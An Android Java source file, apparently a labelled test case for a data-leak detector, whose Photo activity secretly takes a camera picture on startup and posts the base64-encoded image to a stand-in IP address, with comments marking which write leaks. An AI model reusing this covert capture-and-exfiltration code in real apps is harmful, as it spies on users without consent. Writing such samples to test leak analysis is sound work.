package habits;

import android.app.Activity;
import android.hardware.Camera;
import android.os.Bundle;
import android.util.Base64;
import java.io.OutputStreamWriter;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;

/** Takes a picture in secret. */
public class Photo extends Activity implements Camera.PictureCallback {
    private int count;

    @Override
    protected void onCreate(Bundle state) {
        Camera.open().takePicture(null, null, this);
    }

    @Override
    public void onPictureTaken(byte[] data, Camera camera) {
        count++;
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("http://203.0.113.5/pic").openConnection();
            OutputStreamWriter writer = new OutputStreamWriter(connection.getOutputStream());
            writer.write("n=" + count); // no leak
            writer.write("&img=" + URLEncoder.encode(Base64.encodeToString(data, Base64.DEFAULT), "UTF-8")); // leak
            writer.close();
        } catch (Exception ignored) {
        }
    }
}
